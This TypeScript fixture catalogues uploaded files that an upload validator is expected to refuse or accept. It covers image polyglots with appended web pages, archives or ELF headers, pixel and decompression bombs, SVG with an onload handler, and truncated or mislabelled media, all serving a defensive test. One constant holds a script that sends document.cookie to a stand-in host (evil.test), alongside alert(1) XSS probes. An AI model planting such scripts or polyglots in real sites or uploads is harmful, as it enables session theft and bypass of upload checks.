import { deflateSync } from 'node:zlib'
import { ascii, u8, u16, u16le, u32 } from '../media/bytes.ts'
import { aGif, aJpeg, anMp4, aPng, aWebp, box, pngChunk } from '../media/samples.ts'

/** A file whose name states the expected outcome. `because` is part of the refusal's reason. */
export type BadFile = { name: `${'refused' | 'accepted'}-${string}`; content: Buffer; because?: string }

const page = ascii('<!doctype html><html><script>fetch("//evil.test/"+document.cookie)</script></html>')
/** The end record of an empty ZIP archive, which lets unpackers find an archive behind any other content. */
const archive = Buffer.concat([ascii('PK\x05\x06'), Buffer.alloc(18)])
const program = Buffer.concat([ascii('\x7fELF'), u8(2, 1, 1), Buffer.alloc(57)])
const svg = ascii('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="9" height="9"/>')

const behind = (file: Buffer, more: Buffer) => Buffer.concat([file, more])
const cut = (file: Buffer, bytes: number) => file.subarray(0, file.length - bytes)
const patch = (file: Buffer, at: number, bytes: Buffer) => behind(behind(file.subarray(0, at), bytes), file.subarray(at + bytes.length))
const renamed = (file: Buffer, from: string, to: string) => patch(file, file.indexOf(from, 0, 'latin1'), ascii(to))
const typed = (brand: string) => behind(box('ftyp', ascii(brand), Buffer.alloc(4), ascii(brand)), box('meta', Buffer.alloc(64)))
const wide = behind(u16(65_000), u16(65_000))

/** A small PNG file with the given number of pixels. */
const blank = (width: number, height: number) => aPng({ width, height })

const polyglots: BadFile[] = [
  { name: 'refused-page-behind-picture.jpg', content: behind(aJpeg(), page), because: 'hidden' },
  { name: 'refused-script-behind-picture.png', content: behind(aPng(), ascii('<script>alert(1)</script>')), because: 'hidden' },
  { name: 'refused-archive-behind-picture.jpg', content: behind(aJpeg(), behind(Buffer.alloc(6_000), archive)), because: 'hidden' },
  { name: 'refused-archive-behind-picture.gif', content: behind(aGif(), archive), because: 'hidden' },
  { name: 'refused-program-behind-picture.png', content: behind(aPng(), program), because: 'hidden' },
  { name: 'refused-page-behind-picture.webp', content: behind(aWebp(), page), because: 'hidden' },
  { name: 'refused-page-behind-film.mp4', content: behind(anMp4(), page), because: 'hidden' },
  { name: 'refused-pdf-behind-picture.jpg', content: behind(aJpeg(), ascii('%PDF-1.7 evil')), because: 'hidden' },
  { name: 'refused-film-behind-picture.png', content: behind(aPng(), anMp4({ bytes: 9_000 })), because: 'hidden' },
  { name: 'refused-page-that-begins-like-a-gif.gif', content: behind(ascii('GIF89a/*'), page), because: 'damaged' },
  { name: 'refused-page-that-begins-like-a-jpeg.jpg', content: behind(u8(0xff, 0xd8, 0xff, 0xe0), page), because: 'incomplete' },
]

const bombs: BadFile[] = [
  { name: 'refused-bomb-of-400-megapixels.png', content: blank(20_000, 20_000), because: '400 megapixels' },
  { name: 'refused-bomb-one-pixel-high.png', content: blank(2_000_000, 120), because: '240 megapixels' },
  { name: 'refused-bomb-of-4225-megapixels.gif', content: patch(aGif(), 6, behind(u16le(65_000), u16le(65_000))), because: 'megapixels' },
  {
    name: 'refused-bomb-of-4225-megapixels.jpg',
    content: patch(aJpeg(), aJpeg().indexOf(u8(0xff, 0xc0)) + 5, wide),
    because: 'megapixels',
  },
  { name: 'refused-bomb-of-268-megapixels.webp', content: aWebp({ width: 16_384, height: 16_384 }), because: '268 megapixels' },
  {
    name: 'refused-bomb-of-763-megabytes.png',
    content: aPng({ width: 10_000, height: 10_000, depth: 16, kind: 6, isInterlaced: true }),
    because: 'interlaced',
  },
  {
    name: 'refused-bomb-of-572-megabytes.jpg',
    content: aJpeg({ width: 10_000, height: 10_000, frame: 0xc2, samplings: [0x11, 0x11, 0x11] }),
    because: 'progressive',
  },
  { name: 'refused-1001-frames.gif', content: aGif({ width: 4, height: 4, frames: 1_001 }), because: '1001 frames' },
]

const others: BadFile[] = [
  { name: 'refused-empty.jpg', content: Buffer.alloc(0), because: 'empty' },
  { name: 'refused-drawing.svg', content: svg, because: 'SVG' },
  { name: 'refused-drawing-named-as-picture.png', content: svg, because: 'SVG' },
  { name: 'refused-page-named-as-picture.png', content: page, because: 'web page' },
  { name: 'refused-text-named-as-picture.gif', content: ascii('Only words.'), because: 'text' },
  { name: 'refused-pdf-named-as-picture.png', content: ascii('%PDF-1.7\n\x00\x01'), because: 'PDF' },
  { name: 'refused-program-named-as-film.mp4', content: program, because: 'support this type of file' },
  { name: 'refused-heic-named-as-jpeg.jpg', content: typed('heic'), because: 'Save it as a JPEG' },
  { name: 'refused-avif-without-a-picture.jpg', content: typed('avif'), because: 'incomplete' },
  { name: 'refused-moving.avif', content: typed('avis'), because: 'Animated AVIF images' },
  { name: 'refused-tiff-named-as-picture.png', content: behind(ascii('II*\0'), Buffer.alloc(60)), because: 'JPEG or PNG' },
  { name: 'refused-webm-named-as-mp4.mp4', content: behind(u8(0x1a, 0x45, 0xdf, 0xa3), Buffer.alloc(60)), because: 'Convert it to MP4' },
  { name: 'refused-moving.webp', content: aWebp({ canvas: { flags: 0x02 } }), because: 'GIF or an MP4' },
  {
    name: 'refused-moving.png',
    content: aPng({ extra: [pngChunk('acTL', behind(u32(3), u32(0)))] }),
    because: 'Animated PNG images',
  },
  { name: 'refused-truncated.jpg', content: cut(aJpeg(), 2), because: 'incomplete' },
  { name: 'refused-truncated.png', content: cut(aPng(), 12), because: 'incomplete' },
  { name: 'refused-truncated.gif', content: cut(aGif(), 1), because: 'incomplete' },
  { name: 'refused-truncated.webp', content: cut(aWebp(), 3), because: 'incomplete' },
  { name: 'refused-truncated.mp4', content: cut(anMp4({ bytes: 5_000 }), 900), because: 'incomplete' },
  { name: 'refused-bit-fallen-over.png', content: patch(aPng(), 45, u8(0xfe)), because: 'damaged' },
  { name: 'refused-without-a-frame.gif', content: aGif({ frames: 0 }), because: 'damaged' },
  {
    name: 'refused-two-sizes.jpg',
    content: Buffer.concat([u8(0xff, 0xd8), aJpeg().subarray(2, -2), aJpeg().subarray(2)]),
    because: 'damaged',
  },
  { name: 'refused-no-size.gif', content: patch(aGif(), 6, Buffer.alloc(4)), because: 'no size' },
  { name: 'refused-sound-only.mp4', content: renamed(anMp4({ audioCodec: 'mp4a' }), 'vide', 'soun'), because: 'no picture' },
  { name: 'refused-encrypted-picture.mp4', content: anMp4({ codec: 'encv' }), because: 'copy-protected' },
  { name: 'refused-encrypted-sound.mp4', content: anMp4({ audioCodec: 'enca' }), because: 'copy-protected' },
  { name: 'refused-endless.mp4', content: anMp4({ durationMs: 0 }), because: 'how long' },
  { name: 'refused-without-description.mp4', content: renamed(anMp4(), 'moov', 'free'), because: 'missing' },
]

const good: BadFile[] = [
  { name: 'accepted-on-its-side.jpg', content: aJpeg({ orientation: 6 }) },
  { name: 'accepted-second-picture-behind.jpg', content: behind(aJpeg(), aJpeg({ width: 200, height: 200 })) },
  { name: 'accepted-short-film-behind.jpg', content: behind(aJpeg(), anMp4({ bytes: 30_000 })) },
  { name: 'accepted-200-megapixels.png', content: blank(16_320, 12_240) },
  { name: 'accepted-padding-behind.png', content: behind(aPng(), Buffer.alloc(64)) },
  { name: 'accepted-words-about-scripts.png', content: aPng({ extra: [pngChunk('tEXt', ascii('Comment\0<script>'))] }) },
  {
    name: 'accepted-compressed-words.png',
    content: aPng({ extra: [pngChunk('zTXt', behind(ascii('Comment\0\0'), deflateSync(Buffer.alloc(90_000, 'a'))))] }),
  },
  { name: 'accepted-extended.webp', content: aWebp({ canvas: { flags: 0x10 } }) },
  { name: 'accepted-one-frame.gif', content: aGif() },
  { name: 'accepted-1000-frames.gif', content: aGif({ width: 4, height: 4, frames: 1_000 }) },
  { name: 'accepted-described-at-its-end.mp4', content: anMp4({ isDescribedFirst: false }) },
  { name: 'accepted-filmed-upright.mp4', content: anMp4({ isTurned: true, audioCodec: 'mp4a' }) },
  { name: 'accepted-jpeg-named-as-png.png', content: aJpeg() },
  { name: 'accepted-film-named-as-picture.jpg', content: anMp4() },
  { name: 'accepted-hevc.mov', content: anMp4({ brand: 'qt  ', codec: 'hvc1' }) },
]

/** Files that people upload, with good or bad intentions. */
export const badFiles: readonly BadFile[] = [...polyglots, ...bombs, ...others, ...good]
